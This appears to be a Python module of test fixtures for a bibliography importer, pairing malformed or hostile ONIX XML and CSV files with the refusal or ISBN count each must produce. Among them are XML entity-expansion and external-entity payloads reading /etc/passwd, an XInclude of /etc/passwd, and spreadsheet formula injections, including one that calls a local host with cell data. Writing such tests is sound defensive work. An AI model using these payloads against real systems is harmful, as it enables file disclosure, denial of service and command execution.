"""Publishers' files and lists that want to do harm, or that went wrong: each in a class by name.

`comes_to` is the refusal's code with its reason, or how many ISBNs an honest reading finds.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TypeAlias

from tests.factories.onix import PRODUCT, message, product, titled

ISBN = "9789510123454"
OFFICIAL = '<!DOCTYPE ONIXMessage SYSTEM "http://127.0.0.1:9/onix.dtd">'
DAMAGED, DECLARES = "bibliography_xml_damaged", "bibliography_xml_doctype"
UNKNOWN, PAGE, EMPTY = "bibliography_unknown", "bibliography_web_page", "bibliography_empty"
LARGE, RELEASE = "bibliography_onix_product_large", "bibliography_onix_release"
ENCODING, NOTHING = "bibliography_encoding", "list_refused no_isbn"
ROUNDED, CELLS, ROWS = "list_refused rounded", "list_refused cells", "list_refused rows"
HEAVY = "list_refused heavy"


Made: TypeAlias = bytes | str | Callable[[], bytes | str]


@dataclass(frozen=True)
class Fixture:
    """A file, and what reading it must come to."""

    kind: str
    name: str
    made: Made
    comes_to: str | int

    @property
    def data(self) -> bytes:
        """The bytes, made only now where they are many."""
        content = self.made() if callable(self.made) else self.made
        return content.encode() if isinstance(content, str) else content

    def __str__(self) -> str:
        return f"{self.kind}: {self.name}"


def of(kind: str, *cases: tuple[str, Made, str | int]) -> list[Fixture]:
    """The fixtures of one class."""
    return [Fixture(kind, name, made, comes_to) for name, made, comes_to in cases]


def declared(inside: str, body: str = "") -> bytes:
    """A message with an internal document type."""
    return message(product(titled(body)), head=f"<!DOCTYPE ONIXMessage [{inside}]>")


def stated(words: str) -> str:
    """A title in words that are not looked at."""
    return product(titled(f"<TitleStatement>{words}</TitleStatement>"))


LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
)
PASSWD = '<!ENTITY x SYSTEM "file:///etc/passwd">'
ELSEWHERE = '<!ENTITY x SYSTEM "http://127.0.0.1:9/secret">'
WHOLE = message(PRODUCT)


def _onix() -> Iterator[list[Fixture]]:
    yield of(
        "ONIX, entities that swell",
        ("ten to the ninth", declared(LAUGHS, "<TitleStatement>&a9;</TitleStatement>"), DECLARES),
        ("never used", declared(LAUGHS), DECLARES),
        ("one long, many times",
         declared(f'<!ENTITY a "{"x" * 50_000}">',
                  f"<TitleStatement>{'&a;' * 5_000}</TitleStatement>"), DECLARES),
        ("in an attribute",
         declared(LAUGHS).replace(b'release="3.1"', b'release="&a9;"'), DECLARES),
        ("of parameters", declared('<!ENTITY % p "<!ENTITY q \'x\'>"> %p;'), DECLARES),
        ("of itself", declared('<!ENTITY a "&a;">', "<TitleStatement>&a;</TitleStatement>"),
         DECLARES),
    )  # fmt: skip
    yield of(
        "ONIX, entities from elsewhere",
        ("a file", declared(PASSWD, "<TitleStatement>&x;</TitleStatement>"), DECLARES),
        ("an address", declared(ELSEWHERE, "<TitleStatement>&x;</TitleStatement>"), DECLARES),
        ("a parameter's", declared('<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;'),
         DECLARES),
        ("included", message(product(more='<xi:include href="/etc/passwd" '
                                          'xmlns:xi="http://www.w3.org/2001/XInclude"/>')), 1),
    )  # fmt: skip
    yield of(
        "ONIX, document types",
        ("the official one is not opened", message(PRODUCT, head=OFFICIAL), 2),
        ("a sign of it that nobody declared", message(stated("&auml;"), head=OFFICIAL), DECLARES),
        ("with elements", declared("<!ELEMENT ONIXMessage ANY>"), DECLARES),
    )
    yield of(
        "ONIX, cut off",
        ("in a tag", WHOLE[:1_000], DAMAGED),
        ("in a product", WHOLE[: WHOLE.index(b"</Product>")], DAMAGED),
        ("behind a product", WHOLE[: WHOLE.index(b"</ONIXMessage>")], DAMAGED),
        ("after its first line", b'<?xml version="1.0" encoding="UTF-8"?>', DAMAGED),
        ("in the name of its root", b'<?xml version="1.0"?><ONIXMess', DAMAGED),
    )
    yield of(
        "ONIX, not well-formed",
        ("another end", WHOLE.replace(b"</Product>", b"</Item>"), DAMAGED),
        ("a bare ampersand", message(stated("Salo & Salo")), DAMAGED),
        ("a sign that XML has not", message(stated("\x01")), DAMAGED),
        ("zeros", WHOLE.replace(b"Otava", b"Ot\0va"), DAMAGED),
        ("an attribute twice", message(PRODUCT, attributes='release="3.1" release="3.1"'), DAMAGED),
        ("a prefix of nothing", message("<x:y/>"), DAMAGED),
        ("two roots", WHOLE + WHOLE, DAMAGED),
        ("words behind the end", WHOLE + b"and more", DAMAGED),
    )


def _onix_letters() -> Iterator[list[Fixture]]:
    yield of(
        "ONIX, encodings",
        ("UTF-16", WHOLE.decode().replace("UTF-8", "UTF-16").encode("utf-16"), 2),
        ("Latin-1", WHOLE.decode().replace("UTF-8", "ISO-8859-1").encode("latin-1"), 2),
        ("Latin-1 that says UTF-8", message(stated("Sää")).replace("ää".encode(), b"\xe4\xe4"),
         DAMAGED),
        ("nobody's", WHOLE.replace(b"UTF-8", b"X-SECRET"), DAMAGED),
        ("a mark in front", b"\xef\xbb\xbf" + WHOLE, 2),
    )  # fmt: skip
    yield of(
        "ONIX, nested",
        ("300 deep", message(product("<Subject>" * 300 + "</Subject>" * 300)), DAMAGED),
        ("100,000 deep", message(product("<Subject>" * 100_000)), DAMAGED),
        ("a product in a product", message(product(more=product(isbn="9789511234562"))), 2),
        ("a message in a message", message(message(PRODUCT).decode().partition("?>")[2]), 2),
    )
    yield of(
        "ONIX, too much of one thing",
        ("5 million letters", lambda: message(stated("x" * 5_000_000)), LARGE),
        ("20 million letters", lambda: message(stated("x" * 20_000_000)), LARGE),
        ("an attribute of 20 million",
         lambda: message(PRODUCT, attributes=f'release="{"3" * 20_000_000}"'), LARGE),
        ("10,000 people",
         lambda: message(product(
             "<Contributor><ContributorRole>A01</ContributorRole><PersonName>A S</PersonName>"
             "</Contributor>" * 10_000)), 1),
        ("20,000 roles", message(product("<Contributor>" + "<ContributorRole>A01</ContributorRole>"
                                         * 20_000 + "<PersonName>A S</PersonName></Contributor>")),
         1),
        ("2,000 products", message(*([product()] * 2_000)), 2_000),
    )  # fmt: skip


def _onix_words() -> Iterator[list[Fixture]]:
    yield of(
        "ONIX, releases",
        ("2.1", message(PRODUCT, attributes='release="2.1"'), RELEASE),
        ("4.0", message(PRODUCT, attributes='release="4.0"'), RELEASE),
        ("said by nobody", message(PRODUCT, attributes=""), 2),
        ("only in the namespace",
         message(PRODUCT, attributes='xmlns="http://ns.editeur.org/onix/3.0/reference"'), 2),
        ("2.1 in the namespace",
         message(PRODUCT, attributes='xmlns="http://www.editeur.org/onix/2.1/reference"'), RELEASE),
    )  # fmt: skip
    yield of(
        "ONIX, numbers that are no ISBN",
        ("a wrong check digit", message(product(isbn="9789510123455")), 0),
        ("another article's", message(product(isbn="4006381333931")), 0),
        ("rounded", message(product(isbn="9789510000000")), 0),
        ("a thousand digits", message(product(isbn="9" * 1_000)), 0),
        ("letters of other alphabets", message(product(isbn="٩٧٨٩٥١٠١٢٣٤٥٤")), 0),
        ("nothing", message(product(isbn="")), 0),
    )
    yield of(
        "ONIX, strange products",
        ("empty", message("<Product/>"), 0),
        ("nobody named", message(product("<Contributor/>")), 1),
        ("a place beyond all", message(product("<Contributor><SequenceNumber>99999999999999999999"
                                               "</SequenceNumber><PersonName>A</PersonName>"
                                               "</Contributor>")), 1),
        ("no products", message(), 0),
        ("comments and instructions", message("<!-- x --><?php echo 1 ?>" + PRODUCT), 2),
        ("taken back", message(product().replace(">03<", ">05<", 1)), 0),
    )  # fmt: skip
    yield of(
        "XML of another kind",
        ("a feed", '<rss version="2.0"><channel/></rss>', UNKNOWN),
        ("a picture", '<svg xmlns="http://www.w3.org/2000/svg"/>', UNKNOWN),
        ("an envelope", '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>',
         UNKNOWN),
        ("a web page", "<html><body>404</body></html>", PAGE),
        ("a web page in capitals", "<!DOCTYPE HTML><HTML></HTML>", PAGE),
    )  # fmt: skip


def _texts() -> Iterator[list[Fixture]]:
    row = f"Talvi;{ISBN}\r\n"
    yield of(
        "lists, encodings",
        ("UTF-16 without a mark", f"Nimi;ISBN\r\n{row}".encode("utf-16-le"), 1),
        ("UTF-16 the other way", f"Nimi;ISBN\r\n{row}".encode("utf-16-be"), 1),
        ("UTF-16 cut in a sign", f"Nimi;ISBN\r\n{row}".encode("utf-16")[:-1], ENCODING),
        ("UTF-8 broken", b"Nimi;ISBN\nS\xc3\xc3;" + ISBN.encode(), 1),
        ("a mark alone", b"\xff\xfe", EMPTY),
        ("EBCDIC", f"Nimi;ISBN\n{row}".encode("cp500"), ENCODING),
    )
    yield of(
        "lists, quotes and delimiters",
        ("a quote that never ends", f'Nimi;ISBN\n"Talvi;{ISBN}\n', 1),
        ("quotes in the middle", f'Nimi;ISBN\nTa"l"vi;{ISBN}\n', 1),
        ("only delimiters", ";;;;\n;;;;\n", EMPTY),
        ("as many delimiters as rows", f"a;b,c\td|e;{ISBN}\n", 1),
        ("another in each row", f"Talvi;{ISBN}\nKesä,9789511234562\n", 2),
        ("line ends of three kinds", f"ISBN\r\n{ISBN}\r9789511234562\n9789519999999", 3),
        ("300 columns", ";".join(["x"] * 300) + f";{ISBN}\n", CELLS),
        ("a delimiter that is a quote", f'sep="\n{ISBN}\n', 1),
    )  # fmt: skip


def _texts_long() -> Iterator[list[Fixture]]:
    yield of(
        "lists, too long",
        ("a cell of 200,000 signs", f"{'x' * 200_000};{ISBN}\n", CELLS),
        ("a million empty rows", lambda: "\n" * 1_000_000 + f"{ISBN}\n", 1),
        ("a million rows of delimiters", lambda: ";;\n" * 1_000_000 + f";;{ISBN}\n", 1),
        ("25,000 rows", f"{ISBN}\n" * 25_000, ROWS),
        ("11 megabytes", lambda: "x" * (11 * 1024**2), "list_refused large"),
        ("white space", lambda: " \r\n\t" * 100_000, EMPTY),
    )
    yield of(
        "lists that are none",
        ("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, ENCODING),
        ("a document", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 20, ENCODING),
        ("a program", b"\x7fELF\x02\x01\x01" + bytes(500), ENCODING),
        ("zeros", bytes(10_000), EMPTY),
        ("a poem", "Talvi saaressa,\nkesä merellä.\n", NOTHING),
        ("an old spreadsheet that is a web page", "<table><tr><td>1</td></tr></table>", UNKNOWN),
        ("nothing", b"", EMPTY),
    )
    yield of(
        "lists, formulas and commands",
        ("a command", f"=cmd|'/c calc'!A0;{ISBN}\n", 1),
        ("a link", f'=HYPERLINK("http://127.0.0.1:9/?"&A1);{ISBN}\n', 1),
        ("an ISBN as a formula", f'="{ISBN}"\n', 1),
        ("an apostrophe", f"'{ISBN}\n", 1),
    )
    yield of(
        "lists, ISBNs as numbers",
        ("rounded", "ISBN\n9,78951E+12\n", ROUNDED),
        ("with all its digits", "ISBN\n9.789510123454E+12\n", 1),
        ("seven zeros", "ISBN\n9789510000000\n", ROUNDED),
        ("a power beyond all", "ISBN\n9E+99\n", ROUNDED),
        ("with decimals", "ISBN\n9789510123454.0\n", 1),
    )
    yield of(
        "lists, traps for patterns",
        ("digits without end", lambda: ("9" * 1_900 + "\n") * 2_000, HEAVY),
        ("hyphens without end", lambda: ("9-7-8-" * 300 + "\n") * 2_000, HEAVY),
        ("spaces without end", lambda: ("978" + " " * 1_800 + "x\n") * 2_000, NOTHING),
        ("almost an ISBN, often", lambda: ("978-951-0-12345-" * 110 + "\n") * 2_000, HEAVY),
        ("letters for digits", lambda: ("978OlOlOlOlOl" * 140 + "\n") * 2_000, HEAVY),
        ("hyphens, a little", lambda: ("9-7-8-" * 300 + "\n") * 100, NOTHING),
        ("almost an ISBN, a little", lambda: ("978-951-0-12345-" * 110 + "\n") * 100, NOTHING),
        ("and, and, and", f"Tekijät;ISBN\n{'a ja ' * 390};{ISBN}\n", 1),
    )


_MADE = (_onix, _onix_letters, _onix_words, _texts, _texts_long)
FIXTURES = [one for made in _MADE for some in made() for one in some]
